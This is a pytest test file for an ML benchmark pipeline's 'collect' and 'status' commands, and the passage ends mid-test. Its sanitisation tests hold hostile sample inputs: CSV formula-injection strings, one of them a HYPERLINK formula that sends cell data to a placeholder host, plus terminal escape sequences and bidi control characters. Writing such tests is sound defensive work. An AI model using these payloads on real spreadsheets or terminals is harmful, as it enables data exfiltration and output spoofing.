"""What collect and status make of folders: tables and states, refusals in a sentence, and nothing lost."""

import argparse
import csv
import io
import json
import math
import os
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from conftest import ROOT, Command, assert_refused, everything_in, run_command, run_unprivileged, without_slurm
from factories import SUBMISSION, assert_says, make_experiment, make_measurement, make_record, make_spec
from int8_records import RECORDS
from page_records import collected_in, every_question
from timed_records import timed as timed_epoch

from pipeline.answers.questions import answers_of
from pipeline.collect import DEFECT, address_of_words, display_options, go_on_after_defect
from pipeline.experiment.folder import Experiment, find_experiments
from pipeline.experiment.manifest import start_submission
from pipeline.experiment.measurement import MemorySearch, MemoryTrial, Telemetry
from pipeline.experiment.record import Environment, Failure, Gpu, Record
from pipeline.pages import terminal
from pipeline.pages.display_tables import MAX_WIDTH
from pipeline.tables.table_files import inert_cell

Make = Callable[[Path], object]
FOLDERS: dict[str, tuple[Make, int]] = {
    "absent": (lambda path: None, 2),
    "a file": (lambda path: path.write_text("mine"), 2),
    "a loop": (lambda path: path.symlink_to(path), 2),
    "empty": (lambda path: path.mkdir(), 3),
    "of other things": (lambda path: (path / "deep" / "down").mkdir(parents=True), 3),
}


@pytest.mark.fault("F32")
@pytest.mark.parametrize("command", ["collect", "status"])
@pytest.mark.parametrize(("make", "code"), FOLDERS.values(), ids=FOLDERS.keys())
def test_a_folder_that_cannot_be_read_is_2_and_one_with_no_experiment_3(
    pipeline: Command, tmp_path: Path, command: str, make: Make, code: int
) -> None:
    make(tmp_path / "given")
    assert_refused(pipeline(command, tmp_path / "given"), code, str(tmp_path / "given"))


@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_folder_that_may_not_be_read_is_2(pipeline: Command, tmp_path: Path, command: str) -> None:
    (tmp_path / "given").mkdir(mode=0)
    if os.access(tmp_path / "given", os.R_OK):
        pytest.skip("root reads every folder")
    assert_refused(pipeline(command, tmp_path / "given"), 2, "Permission denied")


def test_records_without_a_manifest_are_tables_to_collect_and_nothing_to_status(
    pipeline: Command, tmp_path: Path
) -> None:
    make_experiment(tmp_path / "x", make_record()).manifest_path.unlink()
    assert_refused(pipeline("status", tmp_path), 3, "manifest")
    answer = pipeline("collect", tmp_path, "--format", "json")
    assert json.loads(answer.stdout)["experiments"]["x"]["coverage"]["expected"] == 1
    make_experiment(tmp_path / "y", make_record())
    beside = pipeline("status", tmp_path, "--json")
    assert (beside.returncode, list(json.loads(beside.stdout)["experiments"])) == (0, ["y"])
    assert "x has no manifest" in beside.stderr


def test_records_without_a_manifest_stand_by_gpus_and_batch_and_not_by_name(pipeline: Command, tmp_path: Path) -> None:
    ddp = [make_spec(strategy="ddp", num_gpus=2, batch_size_per_gpu=size) for size in (8, 16, 128)]
    alone = [make_spec(batch_size_per_gpu=size) for size in (64, 512)]
    make_experiment(tmp_path / "x", *map(make_record, [*ddp, *alone])).manifest_path.unlink()
    tables = json.loads(pipeline("collect", tmp_path, "--format", "json").stdout)["experiments"]["x"]
    assert [row["batch_size_per_gpu"] for row in tables["Q1"]] == [64, 512]
    assert [row["batch_size_per_gpu"] for row in tables["Q3"]] == [8, 16, 128]


@pytest.mark.parametrize("raw", [b"", b"{", b"\xff", b'{"schema_version": 9}'])
@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_manifest_that_is_none_is_2_and_named(pipeline: Command, tmp_path: Path, command: str, raw: bytes) -> None:
    make_experiment(tmp_path / "x", make_record()).manifest_path.write_bytes(raw)
    assert_refused(pipeline(command, tmp_path), 2, "manifest.json")


@pytest.mark.parametrize("command", ["collect", "status"])
@pytest.mark.parametrize(("status", "code"), [("ok", 0), ("oom", 0), ("failed", 1), ("rejected", 1), ("missing", 1)])
def test_strict_is_1_where_a_point_has_no_result(
    pipeline: Command, tmp_path: Path, command: str, status: Any, code: int
) -> None:
    spec = make_spec(batch_size_per_gpu=64)
    found = [make_record()] + ([make_record(spec, status=status)] if status in ("ok", "oom", "failed") else [])
    experiment = make_experiment(tmp_path / "x", *found, missing=[spec])
    if status == "rejected":
        (experiment.records_folder / f"{spec.run_id()}.0.json").write_text("{")
    answer = pipeline(command, tmp_path, "--strict")
    assert (answer.returncode, answer.stderr) == (code, "")


@pytest.mark.parametrize("command", ["collect", "status"])
def test_without_strict_gaps_are_0_and_the_answer_is_the_same(pipeline: Command, tmp_path: Path, command: str) -> None:
    make_experiment(tmp_path / "x", make_record(), missing=[make_spec(batch_size_per_gpu=64)])
    lenient, strict = pipeline(command, tmp_path), pipeline(command, tmp_path, "--strict")
    assert (lenient.returncode, strict.returncode) == (0, 1)
    assert lenient.stdout == strict.stdout != ""


def test_what_collect_prints_is_what_it_writes(pipeline: Command, tmp_path: Path) -> None:
    oom = make_record(make_spec(batch_size_per_gpu=64), status="oom", reason='out of, "memory"\nindeed')
    scaled = make_record(make_spec(strategy="ddp", num_gpus=2), (2, 0.7))
    experiment = make_experiment(tmp_path / "a" / "x", make_record(loss=1.5), oom, scaled)
    (experiment.folder / "oom.csv").write_text("stale")
    markdown, shape = pipeline("collect", tmp_path, "--full"), pipeline("collect", tmp_path, "--format", "json")
    assert (markdown.stderr, shape.stderr) == ("", "")
    assert experiment.report.read_text() == markdown.stdout
    printed = json.loads(shape.stdout)["experiments"]["a/x"]
    assert json.loads((experiment.folder / "tables.json").read_text()) == printed
    measured = {"communication", "bandwidth", "sweep", "transfers", "split", "prediction", "memory"}
    measured.add("time_to_target")
    assert set(printed) == {"Q1", "Q2", "Q3", "Q4", "oom", "coverage", "cost", *measured}
    assert all(printed[table] == [] for table in measured)
    for name, num_rows in (("Q1", 2), ("Q2", 3), ("Q3", 1), ("Q4", 2), ("oom", 1)):
        with (experiment.folder / f"{name.lower()}.csv").open(newline="") as file:
            rows = list(csv.DictReader(file))
        as_text = [{key: "" if value is None else str(value) for key, value in row.items()} for row in printed[name]]
        assert rows == as_text
        assert len(rows) == num_rows


def test_collect_writes_a_page_beside_the_records_and_an_index_over_several(pipeline: Command, tmp_path: Path) -> None:
    found = [make_record(make_spec(batch_size_per_gpu=size)) for size in (32, 64)]
    first, second = (make_experiment(tmp_path / "a" / name, *found) for name in ("x", "y"))
    log = first.logs / SUBMISSION / f"{found[0].run_id}.log"
    log.parent.mkdir()
    log.write_text("")
    with first.edit_manifest() as manifest:
        manifest.submissions.append(start_submission(SUBMISSION, "local"))
    answer = pipeline("collect", tmp_path)
    assert (answer.returncode, answer.stderr) == (0, "")
    page = (first.folder / "report.html").read_text()
    assert f">records/{found[0].run_id}.0.json<" in page
    assert f">logs/{SUBMISSION}/{found[0].run_id}.log<" in page
    assert "<svg " in (second.folder / "plots" / "q1.svg").read_text()
    index = (tmp_path / "index.html").read_text()
    assert 'href="a/x/report.html"' in index
    assert 'href="a/y/report.html"' in index


def test_an_experiment_by_itself_has_no_index(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record())
    pipeline("collect", tmp_path)
    assert "index.html" not in (tmp_path / "x" / "report.html").read_text()
    assert not (tmp_path / "index.html").exists()


def test_a_root_that_may_not_be_written_has_no_index_and_says_so(tmp_path: Path) -> None:
    for name in "xy":
        make_experiment(tmp_path / "all" / name, make_record())
    (tmp_path / "all").chmod(0o500)
    answer = run_unprivileged("collect", tmp_path / "all")
    assert answer.returncode == 0
    assert "cannot write the index of all experiments" in answer.stderr
    assert (tmp_path / "all" / "x" / "report.html").exists()


def test_a_table_without_rows_leaves_no_stale_file(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record())
    (experiment.folder / "oom.csv").write_text("stale")
    pipeline("collect", tmp_path)
    assert not (experiment.folder / "oom.csv").exists()


def test_collecting_again_changes_no_byte(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record(loss=1.5), missing=[make_spec(batch_size_per_gpu=2)])
    pipeline("collect", tmp_path)
    before = everything_in(tmp_path)
    pipeline("collect", tmp_path)
    assert everything_in(tmp_path) == before


def test_an_experiment_given_by_itself_has_its_own_name(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "a" / "x", make_record())
    answers = [pipeline("collect", folder, "--format", "json") for folder in (tmp_path, tmp_path / "a" / "x")]
    assert [list(json.loads(answer.stdout)["experiments"]) for answer in answers] == [["a/x"], ["x"]]


@pytest.mark.fault("F32")
def test_files_that_cannot_be_written_beside_the_records_are_2_and_the_tables_are_printed(
    pipeline: Command, tmp_path: Path
) -> None:
    experiment = make_experiment(tmp_path / "x", make_record())
    experiment.report.mkdir()
    answer = pipeline("collect", tmp_path)
    assert answer.returncode == 2
    assert "# x" in answer.stdout
    assert "Traceback" not in answer.stderr


@pytest.mark.fault("F21")
def test_junk_among_the_records_is_named_and_nothing_else_is_lost(pipeline: Command, tmp_path: Path) -> None:
    spoilt = make_record(make_spec(batch_size_per_gpu=64))
    experiment = make_experiment(tmp_path / "x", make_record(), spoilt)
    path = experiment.records_folder / f"{spoilt.run_id}.0.json"
    path.write_bytes(path.read_bytes()[:100])
    (experiment.records_folder / "foreign.json").write_text('{"hello": [1, 2, 3]}')
    (experiment.records_folder / "deep.json").write_text("[" * 100_000)
    (experiment.records_folder / "binary.json").write_bytes(bytes(range(256)))
    (experiment.records_folder / "folder.json").mkdir()
    (experiment.records_folder / "link.json").symlink_to(experiment.manifest_path)
    os.mkfifo(experiment.records_folder / "fifo.json")
    answer = pipeline("collect", tmp_path)
    assert (answer.returncode, answer.stderr) == (0, "")
    for name in (path.name, "foreign.json", "deep.json", "binary.json", "folder.json", "link.json", "fifo.json"):
        assert f"records/{name}" in answer.stdout.replace("\\", "")
    assert "2 points expected: 1 ok, 0 OOM, 0 failed, 0 missing, 1 rejected" in answer.stdout
    assert "6 foreign" in answer.stdout


def test_a_record_whose_epoch_took_no_time_ends_in_no_traceback(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record())
    (path,) = experiment.records_folder.iterdir()
    path.write_text(path.read_text().replace('"epoch_time_ns": 1000000000', '"epoch_time_ns": 0'))
    answer = pipeline("collect", tmp_path, "--format", "json")
    assert (answer.returncode, "Traceback" in answer.stderr) == (0, False)
    assert [row["throughput_samples_per_s"] for row in json.loads(answer.stdout)["experiments"]["x"]["Q1"]] == [None]


@pytest.mark.parametrize("arguments", [("collect",), ("collect", "--format", "json"), ("status",)], ids=" ".join)
def test_a_folder_whose_name_is_not_utf8_ends_in_no_traceback(
    pipeline: Command, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    make_experiment(tmp_path / "x", make_record()).folder.rename(tmp_path / os.fsdecode(b"x\xff"))
    answer = pipeline(*arguments, tmp_path)
    assert "Traceback" not in answer.stderr
    assert answer.returncode in (0, 2)


@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_terminal_escape_in_a_record_or_a_folders_name_does_not_reach_the_terminal(
    pipeline: Command, tmp_path: Path, command: str
) -> None:
    record = make_record(status="failed", reason="\x1b[2Jgone\x07")
    make_experiment(tmp_path / "x\x1b[31m", record)
    answer = pipeline(command, tmp_path)
    assert "gone" in answer.stdout
    assert "\x1b" not in answer.stdout
    assert "\x07" not in answer.stdout


def test_a_gpu_with_a_name_that_stdout_cannot_encode_ends_in_no_traceback(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record(environment=Environment(gpus=(Gpu(name="Größe\u200b"),))))
    answer = pipeline("collect", tmp_path, env=without_slurm(tmp_path, PYTHONIOENCODING="ascii"))
    assert (answer.returncode, "Traceback" in answer.stderr) == (0, False)


@pytest.mark.parametrize("command", ["collect", "status"])
def test_one_bad_manifest_leaves_the_other_experiments_their_answer(
    pipeline: Command, tmp_path: Path, command: str
) -> None:
    make_experiment(tmp_path / "good", make_record())
    make_experiment(tmp_path / "bad", make_record()).manifest_path.write_text("{")
    answer = pipeline(command, tmp_path)
    assert answer.returncode == 2
    assert "bad/manifest.json is not a valid manifest" in answer.stderr
    assert "good" in answer.stdout


def make_rejected(folder: Path, record: Record, change: Callable[[dict[str, Any]], object]) -> None:
    """An experiment of one record that was changed by hand."""
    (path,) = make_experiment(folder, record).records_folder.iterdir()
    shape = json.loads(path.read_text())
    change(shape)
    path.write_text(json.dumps(shape))


def make_impossible_search(folder: Path) -> None:
    trial = MemoryTrial(batch_size_per_gpu=64, fits=True, time_ns=1)
    search = MemorySearch(trials=(trial,), predicted=None, largest_fitting=64, smallest_failing=None)
    spec = make_spec(input="synthetic", measure="memory")
    found = msgspec.structs.replace(make_measurement(spec), epochs=(), memory_search=search)
    record = make_record(spec, measurement=found)
    make_rejected(folder, record, lambda shape: shape["measurement"]["memory_search"].update(largest_fitting=63))


def make_control_character(folder: Path) -> None:
    def change(shape: dict[str, Any]) -> None:
        shape["measurement"]["quantization"]["histograms"][0]["layer"] = "conv\x0b1"

    make_rejected(folder, RECORDS[0], change)


def make_never_submitted(folder: Path) -> None:
    experiment = make_experiment(folder, make_record())
    shape = json.loads(experiment.manifest_path.read_text())
    shape["submissions"] = [{"id": "s1", "backend": "local", "submitted_at": "never"}]
    experiment.manifest_path.write_text(json.dumps(shape))


def make_deep(folder: Path) -> None:
    """An experiment at a path of more than 4,096 bytes, which no system call accepts whole."""
    before = os.getcwd()
    folder.mkdir()
    os.chdir(folder)
    try:
        for _ in range(20):
            os.mkdir("d" * 210)
            os.chdir("d" * 210)
        os.mkdir("records")
    finally:
        os.chdir(before)


REJECTED = {"control character": make_control_character, "impossible search": make_impossible_search}
UNREADABLE = {"never submitted": make_never_submitted, "path of 4,200 bytes": make_deep}


@pytest.mark.fault("F45")
@pytest.mark.parametrize("make", REJECTED.values(), ids=REJECTED.keys())
def test_a_record_of_what_cannot_be_is_rejected_and_costs_no_other_experiment_anything(
    pipeline: Command, tmp_path: Path, make: Make
) -> None:
    make_experiment(tmp_path / "good", make_record())
    alone = json.loads(pipeline("collect", tmp_path, "--format", "json").stdout)["experiments"]["good"]
    make(tmp_path / "bad")
    answer = pipeline("collect", tmp_path, "--format", "json")
    assert (answer.returncode, answer.stderr) == (0, "")
    found = json.loads(answer.stdout)["experiments"]
    assert (found["good"], found["bad"]["coverage"]["rejected"]) == (alone, 1)
    assert pipeline("collect", tmp_path, "--strict").returncode == 1


@pytest.mark.fault("F45")
@pytest.mark.parametrize("command", ["collect", "status", "cancel", "compare"])
@pytest.mark.parametrize("make", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_an_experiment_that_cannot_be_read_gets_a_sentence_and_the_others_their_answer(
    pipeline: Command, tmp_path: Path, command: str, make: Make
) -> None:
    make_experiment(tmp_path / "all" / "good", make_record())
    other = (tmp_path / "others",) if command == "compare" else ()
    if other:
        make_experiment(tmp_path / "others" / "good", make_record())
        make_experiment(tmp_path / "others" / "bad", make_record())
    other = (*other, *(("--full",) if command == "collect" else ()))
    alone = pipeline(command, tmp_path / "all", *other)
    make(tmp_path / "all" / "bad")
    answer = pipeline(command, tmp_path / "all", *other)
    assert (alone.returncode, answer.returncode) == (0, 2)
    assert "Traceback" not in answer.stderr
    said = [line for line in answer.stderr.splitlines() if not line.startswith("Notice: only under")]
    assert len(said) == 1, answer.stderr
    assert_says(said[0], str(tmp_path / "all" / "bad"))
    if command != "cancel":  # which has nothing to say where nothing is queued
        assert answer.stdout.endswith(alone.stdout)


def test_a_manifest_with_a_name_that_is_too_long_is_2_and_the_others_are_read(
    pipeline: Command, tmp_path: Path
) -> None:
    """The folder and its records can still be named, the manifest cannot."""
    make_experiment(tmp_path / "good", make_record())
    deep = tmp_path / "bad"
    while len(str(deep)) < 3900:
        deep /= "d" * 60
    deep /= "d" * (4086 - len(str(deep)) - 1)
    (deep / "records").mkdir(parents=True)
    answer = pipeline("collect", tmp_path)
    assert (answer.returncode, "good/report.html" in answer.stdout) == (2, True)
    assert answer.stderr.count("File name too long") == 1


def test_a_figure_that_fails_is_named_with_its_place_and_is_2(capsys: pytest.CaptureFixture[str]) -> None:
    codes = [0]
    nothing: list[Record] = []
    with go_on_after_defect("a/x", codes):
        next(iter(nothing))
    assert codes == [0, 2]
    said = capsys.readouterr().err
    assert_says(said, f"error: a/x: {DEFECT} (StopIteration in test_collect.py, line ", "report it with the records")
    with pytest.raises(ModuleNotFoundError), go_on_after_defect("a/x", codes):
        raise ModuleNotFoundError("pandas")


@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_folder_below_that_cannot_be_read_is_2(pipeline: Command, tmp_path: Path, command: str) -> None:
    make_experiment(tmp_path / "good", make_record())
    closed = make_experiment(tmp_path / "closed", make_record()).folder
    closed.chmod(0)
    if os.access(closed, os.R_OK):
        pytest.skip("root reads every folder")
    answer = pipeline(command, tmp_path, "--strict")
    closed.chmod(0o700)
    assert (answer.returncode, "left out: " in answer.stderr, "good" in answer.stdout) == (2, True, True)


def test_a_point_that_a_manifest_names_twice_counts_once(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record())
    manifest = json.loads(experiment.manifest_path.read_text())
    manifest["points"] *= 2
    experiment.manifest_path.write_text(json.dumps(manifest))
    tables = json.loads(pipeline("collect", tmp_path, "--format", "json").stdout)["experiments"]["x"]
    assert (tables["coverage"]["expected"], tables["Q1"][0]["n"]) == (1, 1)


FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://host/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "x\r=1+1\r\n=2",
)
FORMULAS += ("\n=1+1", " =1+1", "\n\t @SUM(A1)", "\xa0=1+1", "\uff1d1+1")  # blanks and a wide sign do not hide one


@pytest.mark.parametrize("reason", FORMULAS)
def test_a_reason_that_a_spreadsheet_would_run_as_a_formula_is_text_in_the_csv_files_alone(
    tmp_path: Path, reason: str
) -> None:
    """A reason is what a rank printed, or what another's record says."""
    found = make_record(status="oom", reason=reason)
    diverged = make_record(make_spec(num_samples=256), [1.0, 1.0], loss=-0.5)
    experiment = make_experiment(tmp_path / "x", found, diverged)
    assert run_command("collect", tmp_path / "x").returncode == 0
    with (experiment.folder / "oom.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    shown = reason.replace("\r\n", "\n").replace("\r", "\n")  # else what follows one is a row of its own
    shown = shown.replace("\xa0", "\N{REPLACEMENT CHARACTER}")
    assert row["reason"] == (shown if reason.startswith("x") else f"'{shown}")
    assert json.loads((experiment.folder / "tables.json").read_text())["oom"][0]["reason"] == reason
    with (experiment.folder / "q4.csv").open(newline="") as file:
        assert {row["loss"] for row in csv.DictReader(file)} == {"-0.5"}, "a number is no text"


@pytest.mark.parametrize("sign", "\t\r")
def test_a_cell_that_begins_with_a_tab_or_a_carriage_return_is_text_whatever_follows(sign: str) -> None:
    assert inert_cell(f"{sign}SUM(A1)") == "'{}SUM(A1)".format(sign.replace("\r", "\n"))


BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
NO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\xad\U000e0041"
HOSTILE_NAME = f"=gpu{BIDI}{NO_WIDTH}\uffff`x"  # what the schema accepts as a name
HOSTILE_TEXT = f"\n=\x1b[31mred\x1b]8;;http://host/\x07link\x1b]8;;\x07\x7f\x85\x9b2J{HOSTILE_NAME}"
HOSTILE = Environment(
    gpus=(Gpu(name=HOSTILE_NAME, node=HOSTILE_NAME, uuid=HOSTILE_NAME),),
    nodes=(HOSTILE_NAME,),
    variables={f"NCCL_{HOSTILE_NAME}": HOSTILE_NAME},
    cpu=HOSTILE_NAME,
    driver=HOSTILE_NAME,
    torch=HOSTILE_NAME,
    source_digest=HOSTILE_NAME,
    source=HOSTILE_NAME,
)


def hostile_experiment(folder: Path) -> Path:
    """An experiment with hostile text in every field that the schema leaves open, and in its own name."""
    measured = RECORDS[0].measurement
    assert measured is not None
    assert measured.quantization is not None
    histograms = (msgspec.structs.replace(measured.quantization.histograms[0], layer=HOSTILE_NAME),)
    quantization = msgspec.structs.replace(measured.quantization, histograms=histograms)
    measured = msgspec.structs.replace(measured, quantization=quantization)
    failure = Failure("exception", HOSTILE_TEXT, node=HOSTILE_NAME)
    other = msgspec.structs.replace(HOSTILE, gpus=(Gpu(name=f"b{HOSTILE_NAME}"),))
    experiment = make_experiment(
        folder / f"x{BIDI}\x9b",
        make_record(environment=HOSTILE, telemetry=Telemetry(interval_s=1.0, notes=(HOSTILE_NAME,))),
        make_record(make_spec(strategy="ddp", num_gpus=2), (2, 0.7), environment=other),
        make_record(make_spec(batch_size_per_gpu=64), status="oom", reason=HOSTILE_TEXT),
        make_record(make_spec(batch_size_per_gpu=32), status="failed", reason=HOSTILE_TEXT, failure=failure),
        msgspec.structs.replace(RECORDS[0], measurement=measured, environment=HOSTILE),
    )
    (experiment.records_folder / f"bad{BIDI}.json").write_text("{")
    make_experiment(folder / f"y{BIDI}", make_record(environment=HOSTILE))
    return folder


def unprintable(text: str) -> set[str]:
    return {char for char in text if not char.isprintable()} - {"\n", "\t"}


SHOWN: tuple[tuple[str, ...], ...] = (
    ("collect",),
    ("collect", "--columns", "all"),
    ("collect", "--format", "json"),
    *(("collect", "--format", "csv", "--only", table) for table in ("Q1", "oom", "int8_histograms")),
    ("status", "--all"),
    ("status", "--json"),
    ("cancel",),
    ("compare",),
    ("compare", "--json"),
    ("submit", "--grid", "smoke", "--dry-run", "--outputs"),
    ("submit", "--grid", "smoke", "--dry-run", "--json", "--outputs"),
    ("status", f"--x{BIDI}"),
)


@pytest.mark.fault("F47")
@pytest.mark.parametrize("arguments", SHOWN, ids=lambda arguments: " ".join(arguments[:4]).encode("unicode_escape"))
def test_no_text_of_others_controls_the_terminal(pipeline: Command, tmp_path: Path, arguments: tuple[str, ...]) -> None:
    folder = hostile_experiment(tmp_path)
    folders = [folder / f"y{BIDI}", folder / f"y{BIDI}"] if arguments[0] != "collect" else [folder]
    if arguments[0] == "compare":
        make_experiment(folder / "z", make_record())
        folders[1] = folder / "z"
    answer = pipeline(*arguments, *folders[: 2 if arguments[0] == "compare" else 1])
    assert answer.returncode == (2 if BIDI in arguments[-1] else 0)
    assert "Warning" not in answer.stderr
    assert unprintable(answer.stdout + answer.stderr) == set()
    assert answer.stdout or answer.returncode == 2


@pytest.mark.fault("F47")
def test_no_text_of_others_controls_a_reader_of_the_files(pipeline: Command, tmp_path: Path) -> None:
    folder = hostile_experiment(tmp_path)
    assert pipeline("collect", folder).returncode == 0
    written = [path for path in folder.rglob("*") if path.suffix in (".md", ".html", ".csv", ".svg")]
    written += folder.rglob("tables.json")
    assert {path.suffix for path in written} == {".md", ".html", ".csv", ".svg", ".json"}
    assert {path.name: unprintable(path.read_text()) for path in written if unprintable(path.read_text())} == {}
    tables = [csv.reader(path.read_text().splitlines(keepends=True)) for path in folder.rglob("*.csv")]
    cells = [cell for rows in tables for row in rows for cell in row]
    assert any("red" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@")) and not is_number(cell)] == []
    (shape,) = [json.loads(path.read_text()) for path in folder.glob("x*/tables.json")]
    assert shape["oom"][0]["reason"] == HOSTILE_TEXT, "JSON escapes it, and loses nothing"


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


@pytest.mark.fault("F32")
def test_a_folder_that_may_not_be_written_has_its_tables_printed_alone(tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "scaling", make_record())
    experiment.folder.chmod(0o500)
    before = everything_in(tmp_path)
    answer = run_unprivileged("collect", tmp_path)
    assert (answer.returncode, "# scaling" in answer.stdout) == (0, True), answer.stderr
    (said,) = answer.stderr.splitlines()
    assert_says(said, "scaling: cannot write", "Permission denied", "only printed")
    assert everything_in(tmp_path) == before


def test_a_record_that_may_not_be_read_is_not_to_be_thrown_away(tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "scaling", make_record())
    (path,) = experiment.records_folder.iterdir()
    path.chmod(0)
    answer = run_unprivileged("collect", tmp_path)
    assert_says(
        " ".join(answer.stdout.split()), "its only record was not read", "Permission denied", "make it readable"
    )
    assert "remove" not in answer.stdout


def test_several_experiments_have_a_table_for_each_question_and_a_line_each(pipeline: Command, tmp_path: Path) -> None:
    lost = make_record(make_spec(batch_size_per_gpu=512), status="oom", reason="full")
    for name, size in (("x", 32), ("y", 64)):
        make_experiment(tmp_path / name, make_record(make_spec(batch_size_per_gpu=size)), lost)
    lines = pipeline("collect", tmp_path).stdout.splitlines()
    table = [[cell.strip() for cell in line.strip("|").split("|")] for line in lines if line.startswith("|")]
    assert [row[0] for row in table if row[1] == "answer"] == ["Q5", "Q1"]
    first = next(index for index, row in enumerate(table) if row[0] == "Q1")
    assert table[first + 2 :] == [
        ["x", "50,000 images/s at 32", "", "tf32, dataloader, one run"],
        ["y", "50,000 images/s at 64", "", "tf32, dataloader, one run"],
    ]
    assert [line for line in lines if line.startswith("- ")] == [f"- {name}: 512 per GPU on 1 GPU" for name in "xy"]
    assert f"{tmp_path}/x/report.html  2 points" in lines
    assert lines[-2:] == [f"Page: {tmp_path}/index.html", "--full prints every table."]


def test_an_experiment_has_its_answers_main_tables_and_paths(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", *every_question())
    lines = pipeline("collect", tmp_path / "x").stdout.splitlines()
    assert len(lines) <= 120
    assert [line[:2] for line in lines if re.match(r"Q\d  ", line)] == ["Q5", "Q1", "Q2", "Q3", "Q4"]
    assert [line[3:5] for line in lines if line.startswith("## ")] == ["Q1", "Q2", "Q3", "Q4"]
    assert lines[-3:] == [
        f"Tables: {experiment.report} (or --full)",
        f"Page:   {experiment.folder / 'report.html'}",
        "Next:   ddpscale submit --grid q4-study",
    ]


def test_the_next_command_is_that_of_a_question_that_was_asked_and_not_answered(
    pipeline: Command, tmp_path: Path
) -> None:
    make_experiment(tmp_path / "x", timed_epoch(4, 128, 2))
    assert pipeline("collect", tmp_path / "x").stdout.splitlines()[-1] == "Next:   ddpscale submit --grid scaling"


def test_brief_is_the_answers_a_table_and_the_page_in_at_most_20_lines(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", *every_question())
    lines = pipeline("collect", tmp_path / "x", "--brief").stdout.splitlines()
    assert len(lines) <= 20
    assert [line[:2] for line in lines if re.match(r"Q\d  ", line)] == ["Q5", "Q1", "Q2", "Q3", "Q4"]
    assert any(line.startswith("| single") for line in lines)
    assert lines[-1] == f"Page: {experiment.folder / 'report.html'}"


def test_the_published_experiments_are_at_most_four_and_a_half_lines_each(pipeline: Command) -> None:
    lines = pipeline("collect", ROOT / "published", "--no-write").stdout.splitlines()
    assert 60 < len(lines) <= 4.5 * len(find_experiments(ROOT / "published"))
    assert max(len(line) for line in lines if str(ROOT) not in line) <= MAX_WIDTH, "a clone may lie anywhere"
    for name in ("h200x4/scaling", "h100x2/q4-study", "two-cores/quantize"):
        assert len(pipeline("collect", ROOT / "published" / name, "--no-write").stdout.splitlines()) <= 120


@pytest.mark.parametrize("width", [60, 80])
def test_a_narrow_terminal_gets_narrow_lines(width: int, tmp_path: Path) -> None:
    found = collected_in(tmp_path / "x", *every_question())
    answers = answers_of(found.tables, found.collected.terms)
    texts = [terminal.render_experiment("x", found, answers, None, width)]
    texts += [terminal.render_brief("x", found, answers, None, width)]
    texts += [terminal.render_overview([terminal.summarize("x", found, answers, Path("x"))], None, width)]
    lines = [line for text in texts for line in text.splitlines() if not line.startswith(("Tables: ", "Page: "))]
    assert max(map(len, lines)) <= width
    assert len(texts[1].splitlines()) <= 20
    assert "epoch time [s]" in texts[0]


def test_one_table_alone_in_each_format(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record(), make_record(make_spec(batch_size_per_gpu=64)))
    text, shape, table = (
        pipeline("collect", tmp_path / "x", "--only", name, "--format", form).stdout
        for name, form in (("Q1", "markdown"), ("q1", "json"), ("Q1", "csv"))
    )
    assert text.startswith("# x\n\n## Q1: ")
    assert text.count("\n## ") == 1
    assert list(json.loads(shape)["experiments"]["x"]) == ["Q1"]
    assert table == (experiment.folder / "q1.csv").read_text()


def test_a_csv_of_several_experiments_names_each(pipeline: Command, tmp_path: Path) -> None:
    for name in ("x", "y"):
        make_experiment(tmp_path / name, make_record())
    answer = pipeline("collect", tmp_path, "--only", "Q1", "--format", "csv", "--no-write")
    rows = list(csv.DictReader(io.StringIO(answer.stdout)))
    assert [row["experiment"] for row in rows] == ["x", "y"]


def test_a_table_that_no_experiment_has_is_printed_without_rows(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record())
    answers = [pipeline("collect", tmp_path, "--only", "int8", "--format", form) for form in ("csv", "json")]
    assert [(answer.returncode, answer.stderr) for answer in answers] == [(0, ""), (0, "")]
    assert (answers[0].stdout, json.loads(answers[1].stdout)["experiments"]) == ("", {"x": {"int8": []}})


def test_a_csv_of_no_named_table_is_refused(pipeline: Command, tmp_path: Path) -> None:
    answer = pipeline("collect", tmp_path, "--format", "csv")
    assert answer.returncode == 2
    assert "name it with --only" in answer.stderr


def test_collect_writes_nothing_anew_of_the_same_records(pipeline: Command, tmp_path: Path) -> None:
    """Neither of an experiment, whose plots take nine tenths of the time, nor of the index."""

    def written() -> dict[Path, int]:
        return {path: path.stat().st_ino for path in tmp_path.rglob("*") if path.is_file()}

    records = [make_record(make_spec(batch_size_per_gpu=size)) for size in (32, 64)]
    experiments = [make_experiment(tmp_path / name, *records) for name in ("x", "y")]
    pipeline("collect", tmp_path)
    first = written()
    assert {path.name for path in first} >= {"index.html", "report.html", "q1.svg", "q1.csv"}
    pipeline("collect", tmp_path)
    assert written() == first, "a file that is written has another inode"

    (experiments[0].folder / "plots" / "q1.svg").unlink()
